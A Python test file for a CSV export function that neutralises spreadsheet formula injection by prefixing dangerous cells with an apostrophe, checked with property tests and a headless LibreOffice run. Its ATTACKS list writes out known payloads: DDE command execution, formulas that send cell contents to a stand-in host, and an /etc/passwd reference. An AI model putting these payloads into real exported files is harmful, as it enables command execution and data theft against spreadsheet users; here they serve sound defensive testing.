"""The CSV file: whole, readable in Excel, and never a formula."""

import csv
import io
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from app.records.table_file import to_csv

#: Of the kinds that OWASP and others have published.
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://elsewhere.example/?stolen="&A1,"Press here")',
    '=WEBSERVICE("http://elsewhere.example/?stolen="&A1)',
    '=IMPORTXML(CONCAT("http://elsewhere.example/?",A1),"//a")',
    "='file:///etc/passwd'#$passwd.A1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "|calc",
    "=1+1\";=1+1;\"",
]  # fmt: skip
#: What does not count as the beginning: controls, spaces, marks of direction, joiners, fillers.
UNSEEN = [" ", "   ", "\x00", "\x0b", "\x1b", "\x7f", "\xa0", "\xad", "\u034f", "\u061c", "\u200b", "\u200e",
          "\u202e", "\u2028", "\u2060", "\u2066", "\u2800", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\uffa0",
          "\U000e0020", "\u0301"]  # fmt: skip
#: The same characters in other widths and forms, some of which a spreadsheet reads as the plain ones.
OTHER_WIDTHS = "＝＋－＠｜％﹦﹢﹣﹫⁼⁺⁻−"
DANGEROUS = "=+-@|%"
HARMLESS = ["North team", "3 = 2 + 1", "a-b", "call@school", "50 %", "'quoted'", '"quoted"', "", "   ", "é", "👩🏽",
            "נסה", "1 December 2026", "two\r\nlines", "a;=1+1", "a\t=1+1", "a,=1+1", "(=1+1)", "–", "…"]  # fmt: skip


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def cell(text: str) -> str:
    """What a reader finds of a text in a table with other columns around it."""
    [_, [left, found, right]] = rows_of(to_csv(["A", "B", "C"], [["x", text, 1]]))
    assert (left, right) == ("x", "1")
    return found


# The table


def test_a_table_as_excel_wants_it():
    content = to_csv(
        ["Day", "Team", "Minutes"], [["2026-11-22", "Südost, “A”", 14], ["2026-11-23", None, None]]
    )
    assert content.decode("utf-8") == (
        '\ufeff"Day","Team","Minutes"\r\n"2026-11-22","Südost, “A”",14\r\n"2026-11-23","",""\r\n'
    )


def test_rows_may_come_one_by_one_and_none_at_all_is_a_heading():
    assert rows_of(to_csv(["A"], (["x"] for _ in range(3)))) == [["A"], ["x"], ["x"], ["x"]]
    assert rows_of(to_csv(["A", "B"], [])) == [["A", "B"]]


def test_numbers_stay_numbers_below_nought_too():
    assert b'"n"\r\n-5,0,1234567\r\n' in to_csv(["n"], [[-5, 0, 1234567]])


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_words_are_left_as_they_are(text):
    assert cell(text) == text


# The guard


@pytest.mark.parametrize("text", [*ATTACKS, *(f"{each}1+1" for each in OTHER_WIDTHS)])
def test_what_begins_like_a_formula_gets_an_apostrophe_and_stays_whole(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("unseen", UNSEEN, ids=ascii)
def test_hiding_the_beginning_does_not_help(unseen):
    for text in (f"{unseen}=1+1", f"{unseen}{unseen}@x", f" {unseen} ＝1+1"):
        assert cell(text) == f"'{text}"
    assert cell(f"{unseen}word") == f"{unseen}word"


@pytest.mark.parametrize("text", ["\tword", "\rword", "\nword", " \tword", "\t", "\u200b\nword"])
def test_a_tab_or_line_break_at_the_beginning_counts_whatever_follows(text):
    assert cell(text) == f"'{text}"


def test_headings_are_guarded_too():
    assert rows_of(to_csv(["=1+1"], [])) == [["'=1+1"]]


def begins_dangerously(text: str) -> bool:
    """As the standard library sees it: what is not printed or is a space does not count."""
    seen = [each for each in text if each.isprintable() and not each.isspace()]
    return text[:1] in ("\t", "\r", "\n") or "".join(seen)[:1] in tuple(DANGEROUS + "＝＋－＠")


def test_control_the_oracle_knows_what_is_dangerous():
    assert all(begins_dangerously(each) for each in ATTACKS)
    assert not any(begins_dangerously(each) for each in HARMLESS)


HOSTILE = st.builds(
    lambda hidden, sign, rest: "".join(hidden) + sign + rest,
    st.lists(st.sampled_from([*UNSEEN, "\t", "\r", "\n"]), max_size=3),
    st.sampled_from(DANGEROUS + OTHER_WIDTHS),
    st.text(max_size=20),
)


@given(st.lists(st.tuples(st.text() | HOSTILE, st.text() | HOSTILE), max_size=5))
def test_no_cell_begins_dangerously_and_no_word_is_lost(rows):
    found = rows_of(to_csv(["A", "B"], rows))[1:]
    assert len(found) == len(rows)
    for row, written in zip(found, rows, strict=True):
        for cell_, text in zip(row, written, strict=True):
            assert not begins_dangerously(cell_)
            assert cell_ in (text, f"'{text}")


# In a spreadsheet

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
#: Commas, semicolons and tabs all divide cells, as LibreOffice offers when somebody opens a file by hand.
AS_OPENED_BY_HAND = "Text - txt - csv (StarCalc):44/59/9,34,76,1,,0,false,true"


def calculated(folder: Path, *names: str) -> list[etree._Element]:
    """The CSV files as LibreOffice Calc has them after opening."""
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
         f"--infilter={AS_OPENED_BY_HAND}", "--convert-to", "fods", "--outdir", str(folder),
         *(str(folder / f"{name}.csv") for name in names)],
        check=True, capture_output=True, timeout=100,
    )  # fmt: skip
    return [etree.parse(folder / f"{name}.fods").getroot() for name in names]


def formulas(sheet: etree._Element) -> list[str]:
    found = (each.get(f"{TABLE}formula") for each in sheet.iter(f"{TABLE}table-cell"))
    return [formula for formula in found if formula]


def test_a_spreadsheet_calculates_nothing_and_reads_numbers(tmp_path):
    texts = [
        *ATTACKS,
        *HARMLESS,
        *(f"{each}1+1" for each in OTHER_WIDTHS),
        *(f"{each}=1+1" for each in UNSEEN),
    ]
    (tmp_path / "ours.csv").write_bytes(to_csv(["Text", "Number"], [[text, 7] for text in texts]))
    # The control, in the same program: neither guarded nor quoted where the format does not ask for it.
    with (tmp_path / "bare.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["=1+1", 7], ["a;=2+2", 7], ["'=3+3", 7]])

    ours, bare = calculated(tmp_path, "ours", "bare")
    assert formulas(bare) == ["of:=1+1", "of:=2+2"]
    assert formulas(ours) == []
    numbers = [each for each in ours.iter(f"{TABLE}table-cell") if each.get(f"{OFFICE}value") == "7"]
    assert len(numbers) == len(texts)
